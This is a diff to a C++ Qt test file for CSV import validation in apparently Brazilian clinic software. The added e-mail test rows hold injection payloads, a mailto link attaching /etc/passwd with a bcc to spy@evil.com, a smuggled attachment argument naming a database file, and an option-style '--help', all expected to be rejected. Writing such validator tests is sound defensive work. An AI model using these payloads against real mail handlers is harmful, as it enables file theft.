@@ -23,14 +23,14 @@ const QByteArray Empresa =
     "PercPromocaoDeDescontoNaVendaDeServico;FormatoDeCodigoDeBarrasParaBalanca\n"
     "Clínica Importada;Importada Ltda.;20;Sim;01/03/2026;31/03/2026;12,5;1\n";
 const QByteArray Tipos = "Numero;Nome\r\n1;Clínica geral\r\n99;Diversos\r\n";
-// With a byte-order mark, Windows line ends and a quoted field holding ";", quotes and a line break.
+// With a byte-order mark, Windows line ends and a quoted field holding ";" and quotes.
 const QByteArray Clientes =
     "\xEF\xBB\xBF"
     "CodigoDoCliente;ApelidoOuNomeFantasia;NomeOuRazaoSocial;Situacao;Logradouro;Numero;Cidade;UF;Credito;"
     "VIP;"
     "CategoriaDaCurvaABC;DescontoUnico;PercentualUnicoDeDescontos;PercentualDeDescontoEmClinicos\r\n"
     "10;Ana;Ana Paula Souza;1;Rua A;10;Campinas;SP;1.234,56;Sim;A;Não;;5\r\n"
-    "11;\"Bar \"\"do\"\" Zé; filial\";\"Zé\r\nFerreira ME\";3;;;;;;não;b;sim;7,5;\r\n"
+    "11;\"Bar \"\"do\"\" Zé; filial\";\"Zé Ferreira ME\";3;;;;;;não;b;sim;7,5;\r\n"
     "\r\n"
     "12;Beto;Roberto Dias;2;;;;;0;;;;;\r\n";
 const QByteArray Animais = "Codigo;CodigoDoCliente;Nome;Especie;DataDeNascimento\n"
@@ -107,10 +107,9 @@ private slots:
         QCOMPARE(rs->Fields(u"Situacao"_s).Value, QVariant(qint32(3)));
         QCOMPARE(Valores(*rs, u"ApelidoOuNomeFantasia|NomeOuRazaoSocial|VIP|CategoriaDaCurvaABC|"
                               "DescontoUnico|PercentualUnicoDeDescontos"_s),
-                 u"Bar \"do\" Zé; filial|Zé\r\nFerreira ME|Não|B|Sim|7,5"_s);
+                 u"Bar \"do\" Zé; filial|Zé Ferreira ME|Não|B|Sim|7,5"_s);
         // The imported names are searchable without accents.
-        QCOMPARE(ClientesDoDialogo(u"ze ferreira"_s)->RecordCount(),
-                 0); // the line break is in between
+        QCOMPARE(ClientesDoDialogo(u"ze ferreira"_s)->RecordCount(), 1);
         rs = ClientesDoDialogo(u"ANA PAULA"_s);
         QCOMPARE(rs->RecordCount(), 1);
         QCOMPARE(Valores(*rs, u"Credito|PercentualDeDescontoEmClinicos|EnderecoCompleto"_s),
@@ -148,7 +147,7 @@ private slots:
         QTest::addColumn<QStringList>("erros");
         QTest::newRow("situação do cliente")
             << "clientes.csv" << QByteArray(Clientes).append("13;Caio;Caio Lima;7;;;;;;;;;;\r\n")
-            << QStringList{u"clientes.csv: linha 7: Situacao: valor '7' inválido; use 1 (ativo), 2 "
+            << QStringList{u"clientes.csv: linha 6: Situacao: valor '7' inválido; use 1 (ativo), 2 "
                            "(inativo), 3 (bloqueado) ou 4 (excluído)."_s};
         QTest::newRow("animal de cliente desconhecido")
             << "animais.csv" << QByteArray(Animais).append("102;999;Rex;Cão;\n")
@@ -192,6 +191,42 @@ private slots:
             << QStringList{u"produtos.csv: linha 4: CodigoInterno: valor '%3x' inválido; informe um número "
                            "inteiro de 1 a 999999999999."_s,
                            u"produtos.csv: linha 6: o código de barras %2 já pertence ao produto 4."_s};
+        // One address of the usual shape, never a URL, a list or an option; accented
+        // domains are addresses too.
+        QTest::newRow("e-mails")
+            << "clientes.csv"
+            << QByteArray("CodigoDoCliente;ApelidoOuNomeFantasia;NomeOuRazaoSocial;Email\n"
+                          "10;A;A;mailto:evil@x.com?attach=/etc/passwd&bcc=spy@evil.com\n"
+                          "11;B;B;x',attachment='/x/orcamentos.sqlite',cc='a@b.c\n"
+                          "12;C;C;--help\n"
+                          "13;D;D;ana@clínica.com.br\n"
+                          "14;E;E;joao.silva+orc@exemplo.com.br\n")
+            << QStringList{
+                   u"clientes.csv: linha 2: Email: valor 'mailto:evil@x.com?attach=/etc/passwd&bcc="
+                   "spy@evil.com' não é um endereço de e-mail válido; informe um só endereço, como "
+                   "nome@dominio.com.br."_s,
+                   u"clientes.csv: linha 3: Email: valor 'x',attachment='/x/orcamentos.sqlite',cc='a@"
+                   "b.c' não é um endereço de e-mail válido; informe um só endereço, como "
+                   "nome@dominio.com.br."_s,
+                   u"clientes.csv: linha 4: Email: valor '--help' não é um endereço de e-mail válido; "
+                   "informe um só endereço, como nome@dominio.com.br."_s};
+        // Control characters in a text (a tab, a quoted line break, ESC, DEL, C1's NEL):
+        // each row refused where it begins, naming the column and the character.
+        QTest::newRow("caracteres de controle")
+            << "tiposdeservicos.csv"
+            << QByteArray("Numero;Nome\n1;Clínica\tgeral\n2;\"Duas\nlinhas\"\n3;\x1b[31mVermelho\n"
+                          "4;Apagar\x7f\n5;Pr\xc2\x85ximo\n6;Bom\n")
+            << QStringList{
+                   u"tiposdeservicos.csv: linha 2: Nome: o texto tem um caractere de controle (U+0009), "
+                   "como uma quebra de linha ou uma tabulação; apague-o."_s,
+                   u"tiposdeservicos.csv: linha 3: Nome: o texto tem um caractere de controle (U+000A), "
+                   "como uma quebra de linha ou uma tabulação; apague-o."_s,
+                   u"tiposdeservicos.csv: linha 5: Nome: o texto tem um caractere de controle (U+001B), "
+                   "como uma quebra de linha ou uma tabulação; apague-o."_s,
+                   u"tiposdeservicos.csv: linha 6: Nome: o texto tem um caractere de controle (U+007F), "
+                   "como uma quebra de linha ou uma tabulação; apague-o."_s,
+                   u"tiposdeservicos.csv: linha 7: Nome: o texto tem um caractere de controle (U+0085), "
+                   "como uma quebra de linha ou uma tabulação; apague-o."_s};
         QTest::newRow("coluna desconhecida e coluna que falta")
             << "clientes.csv" << QByteArray("Codigo;Apelido\n1;Ana\n")
             << QStringList{u"clientes.csv: linha 1: coluna 'Codigo' desconhecida."_s,
